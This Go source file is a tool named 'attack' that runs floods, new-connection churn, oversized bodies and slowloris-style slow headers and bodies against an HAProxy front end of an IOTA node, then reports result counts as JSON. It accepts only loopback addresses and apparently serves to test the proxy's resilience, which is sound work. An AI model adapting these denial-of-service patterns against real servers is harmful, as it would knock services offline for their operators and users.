// Command attack misbehaves towards a front end on the loopback interface, to show the effect on other clients. It
// prints, as JSON, how often each result occurred.
package main

import (
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"slices"
	"strconv"
	"strings"
	"sync"
	"time"
)

// attack is shared by all workers of a run.
type attack struct {
	addr string
	tls  *tls.Config
	way  func(ctx context.Context, a *attack, from net.Addr) string

	mu   sync.Mutex
	ends map[string]int
}

// ways are the attacks: what a worker repeats, and how it ended.
var ways = map[string]func(context.Context, *attack, net.Addr) string{
	"flood":       flood,
	"connections": connections,
	"large-bodies": func(ctx context.Context, a *attack, from net.Addr) string {
		return a.requests(ctx, from, 1000, whole(990_000))
	},
	"slow-headers": func(ctx context.Context, a *attack, from net.Addr) string {
		return a.slowly(ctx, from, "POST / HTTP/1.1\r\nX-A: ", 1)
	},
	"slow-bodies": func(ctx context.Context, a *attack, from net.Addr) string {
		return a.slowly(ctx, from, head(900_000)+"{", 1)
	},
	"late-bodies": func(ctx context.Context, a *attack, from net.Addr) string {
		return a.slowly(ctx, from, head(900_000)+whole(899_000), 100)
	},
}

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "attack: error:", err)
		os.Exit(1)
	}
}

func run() error {
	a := &attack{ends: map[string]int{}}
	way := flag.String("way", "", "what to do")
	ca := flag.String("ca", "", "file with the CA of the front end's certificate; without it, no TLS")
	sources := flag.String("sources", "", "addresses to come from, with commas between")
	workers := flag.Int("workers", 50, "how many at a time from each source")
	lasts := flag.Duration("for", time.Minute, "how long")
	flag.StringVar(&a.addr, "addr", "", "IP address and port of the front end")
	flag.Parse()
	host, _, err := net.SplitHostPort(a.addr)
	if err != nil || !net.ParseIP(host).IsLoopback() {
		return fmt.Errorf("--addr %q: only loopback addresses are attacked", a.addr)
	}
	if a.way = ways[*way]; a.way == nil {
		return fmt.Errorf("--way %q is not known", *way)
	}
	if *ca != "" {
		if a.tls, err = trusting(*ca); err != nil {
			return err
		}
	}
	ctx, cancel := context.WithTimeout(context.Background(), *lasts)
	defer cancel()
	var group sync.WaitGroup
	for source := range strings.SplitSeq(*sources, ",") {
		from := &net.TCPAddr{IP: net.ParseIP(source)}
		for range *workers {
			group.Go(func() { a.work(ctx, from) })
		}
	}
	group.Wait()
	return json.NewEncoder(os.Stdout).Encode(a.ends)
}

func trusting(file string) (*tls.Config, error) {
	text, err := os.ReadFile(file)
	if err != nil {
		return nil, err
	}
	pool := x509.NewCertPool()
	if !pool.AppendCertsFromPEM(text) {
		return nil, fmt.Errorf("%s: holds no certificate", file)
	}
	return &tls.Config{RootCAs: pool, ServerName: "127.0.0.1", MinVersion: tls.VersionTLS12}, nil
}

// roundTrip is how long an attacker on another machine would wait before the next attempt.
const roundTrip = 20 * time.Millisecond

// noAnswer is the result when HAProxy closes the connection without an answer.
const noAnswer = "closed"

func (a *attack) work(ctx context.Context, from net.Addr) {
	for ctx.Err() == nil {
		end := a.way(ctx, a, from)
		if ctx.Err() != nil {
			return
		}
		a.count(end)
		if end == noAnswer {
			time.Sleep(roundTrip) // the pace of the attack
		}
	}
}

func (a *attack) count(end string) {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.ends[end]++
}

func (a *attack) dial(ctx context.Context, from net.Addr) (net.Conn, error) {
	conn, err := (&net.Dialer{LocalAddr: from, Timeout: 5 * time.Second}).DialContext(ctx, "tcp", a.addr)
	if err != nil || a.tls == nil {
		return conn, err
	}
	secured := tls.Client(conn, a.tls)
	if err := secured.HandshakeContext(ctx); err != nil {
		_ = conn.Close()
		return nil, err
	}
	return secured, nil
}

func whole(size int) string {
	head, tail := `{"command":"getNodeInfo","a":"`, `"}`
	return head + strings.Repeat("9", size-len(head)-len(tail)) + tail
}

func head(size int) string {
	return "POST / HTTP/1.1\r\nHost: iri\r\nX-IOTA-API-Version: 1\r\nContent-Length: " + strconv.Itoa(size) + "\r\n\r\n"
}

// flood sends small requests, each as soon as the last one is answered.
func flood(ctx context.Context, a *attack, from net.Addr) string {
	return a.requests(ctx, from, 1000, whole(100))
}

// connections makes a new connection, with TLS, for each request.
func connections(ctx context.Context, a *attack, from net.Addr) string {
	return a.requests(ctx, from, 1, whole(100))
}

// requests sends up to n on one connection. It returns the last one's end, and
// counts the others.
func (a *attack) requests(ctx context.Context, from net.Addr, n int, body string) string {
	client := &http.Client{Transport: &http.Transport{
		DialContext: func(ctx context.Context, network, addr string) (net.Conn, error) {
			return (&net.Dialer{LocalAddr: from, Timeout: 5 * time.Second}).DialContext(ctx, network, addr)
		},
		TLSClientConfig: a.tls,
	}}
	defer client.CloseIdleConnections()
	scheme := "http://"
	if a.tls != nil {
		scheme = "https://"
	}
	for i := 1; ; i++ {
		end := one(ctx, client, scheme+a.addr, body)
		if end == noAnswer || i == n || ctx.Err() != nil {
			return end
		}
		a.count(end)
	}
}

func one(ctx context.Context, client *http.Client, url, body string) string {
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, url, strings.NewReader(body))
	if err != nil {
		return noAnswer
	}
	req.Header.Set("X-IOTA-API-Version", "1")
	resp, err := client.Do(req)
	if err != nil {
		return noAnswer
	}
	_, _ = io.Copy(io.Discard, resp.Body)
	_ = resp.Body.Close()
	return strconv.Itoa(resp.StatusCode)
}

// slowly sends the start in that many pieces, 100 ms apart, and then a byte a second until HAProxy has had enough.
func (a *attack) slowly(ctx context.Context, from net.Addr, start string, pieces int) string {
	conn, err := a.dial(ctx, from)
	if err != nil {
		return noAnswer
	}
	defer func() { _ = conn.Close() }()
	stop := context.AfterFunc(ctx, func() { _ = conn.Close() })
	defer stop()
	for piece := range slices.Chunk([]byte(start), len(start)/pieces+1) {
		if _, err := conn.Write(piece); err != nil {
			return noAnswer
		}
		if pieces > 1 {
			time.Sleep(100 * time.Millisecond) // the pace of the attack
		}
	}
	answer := make([]byte, 12) // HTTP/1.1 408
	for {
		_ = conn.SetReadDeadline(time.Now().Add(time.Second))
		_, err := io.ReadFull(conn, answer)
		if err == nil {
			return string(answer[9:])
		}
		if !errors.Is(err, os.ErrDeadlineExceeded) {
			return noAnswer
		}
		if _, err := io.WriteString(conn, "9"); err != nil {
			return noAnswer
		}
	}
}
